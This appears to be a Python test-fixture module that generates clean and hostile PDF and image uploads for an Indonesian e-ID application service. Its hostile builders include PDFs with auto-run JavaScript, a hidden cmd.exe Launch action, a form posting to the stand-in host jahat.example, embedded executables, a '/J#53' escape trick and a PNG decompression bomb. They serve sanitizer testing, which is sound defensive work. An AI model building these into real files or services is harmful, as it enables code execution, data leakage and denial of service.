"""Files that people hand in with a letter or as a photo: good ones, and hostile ones by kind."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageDraw
from reportlab.pdfgen.canvas import Canvas


def letter(pages: int = 1, *, encrypt: Any = None) -> bytes:
    """A PDF of a few lines a page."""
    out = BytesIO()
    canvas = Canvas(out, encrypt=encrypt, invariant=1)
    for page in range(pages):
        canvas.drawString(72, 720, f"Permohonan perekaman KTP-el, halaman {page + 1}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def picture(width: int = 1200, height: int = 900, form: str = "JPEG", mode: str = "RGB", **more: Any) -> bytes:
    """A picture whose left half is dark and right half light, so that turning and drawing anew can be seen."""
    drawn = Image.new("RGB", (width, height), "white")
    ImageDraw.Draw(drawn).rectangle((0, 0, width // 2, height), fill=(10, 20, 30))
    out = BytesIO()
    if mode == "I;16":
        deep = Image.new("I;16", (width, height), 65_535)
        deep.paste(0x0808, (0, 0, width // 2, height))
        drawn = deep
    (drawn if drawn.mode == mode else drawn.convert(mode, dither=Image.Dither.NONE)).save(out, form, **more)
    return out.getvalue()


def with_place(content: bytes | None = None) -> bytes:
    """A telephone's photo: EXIF with coordinates, camera, a comment, lying on its side."""
    picture_ = Image.open(BytesIO(content or picture(1000, 600)))
    exif = Image.Exif()
    exif[0x0110] = "KameraRahasia"
    exif[0x0112] = 6  # turn by 90 degrees
    exif.get_ifd(0x8825).update({1: "S", 2: (7.0, 45.0, 15.2), 3: "E", 4: (112.0, 49.0, 52.7)})
    out = BytesIO()
    picture_.save(out, "JPEG", exif=exif, comment=b"komentar tersembunyi")
    return out.getvalue()


def enormous_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """A few hundred kilobytes that become 900 million pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packer = zlib.compressobj(9)
    row = b"\0" * (width // 8 + 2)
    rows = b"".join(packer.compress(row * 100) for _ in range(height // 100)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def paper_with(change: Any) -> bytes:
    """A PDF after `change(pdf)`."""
    out = BytesIO()
    with pikepdf.open(BytesIO(letter())) as paper:
        change(paper)
        paper.save(out)
    return out.getvalue()


def _script(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _script_in_names(paper: pikepdf.Pdf) -> None:
    act = paper.make_indirect(Dictionary(S=Name.JavaScript, JS=paper.make_stream(b"app.alert(1)")))
    paper.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", act])))


def _script_on_page(paper: pikepdf.Pdf) -> None:
    paper.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="x"))


def _script_behind_a_goto(paper: pikepdf.Pdf) -> None:
    following = Dictionary(S=Name.Launch, F="cmd.exe")
    paper.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([paper.pages[0].obj, Name.Fit]), Next=Array([following]))


def _sends_a_form(paper: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.SubmitForm, F="http://jahat.example/")
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), A=act)
    paper.pages[0].obj.Annots = Array([paper.make_indirect(field)])


def _xfa(paper: pikepdf.Pdf) -> None:
    paper.Root.AcroForm = Dictionary(Fields=Array([]), XFA=paper.make_stream(b"<xdp/>"))


def _film(paper: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    paper.pages[0].obj.Annots = Array([paper.make_indirect(note)])


def _file_inside(paper: pikepdf.Pdf) -> None:
    paper.attachments["nama.xlsx"] = b"PK\x03\x04"


def _file_pinned(paper: pikepdf.Pdf) -> None:
    stream = paper.make_stream(b"MZ")
    held = Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=stream))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=held)
    paper.pages[0].obj.Annots = Array([paper.make_indirect(note)])


ACTIVE = {
    "a script that runs on opening": _script,
    "scripts by name": _script_in_names,
    "a script on a page": _script_on_page,
    "a program started after a jump": _script_behind_a_goto,
    "a form that sends": _sends_a_form,
    "an XFA form": _xfa,
    "a film": _film,
}
CARRIERS = {"a file inside": _file_inside, "a file pinned to a page": _file_pinned}


def active(kind: str) -> bytes:
    """A PDF that does more than paper can."""
    return paper_with(ACTIVE[kind])


def carrier(kind: str) -> bytes:
    """A PDF with another file in it."""
    return paper_with(CARRIERS[kind])


def hidden_script() -> bytes:
    """A script whose key is written with an escape, compressed with other objects, reached from nowhere."""
    out = BytesIO()
    with pikepdf.open(BytesIO(letter())) as paper:
        lost = paper.make_indirect(Dictionary(S=Name.JavaScript, JS="x"))
        paper.Root.Lang = "id"
        paper.pages[0].obj.PieceInfo = Dictionary(A=Array([Array([lost])]))
        paper.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def escaped_script() -> bytes:
    """`/J#53` is `/JS`."""
    plain = active("a script that runs on opening")
    assert b"/JS " in plain
    return plain.replace(b"/JS ", b"/J#53 ")  # what follows shifts: the reader needs the table of a rewritten file
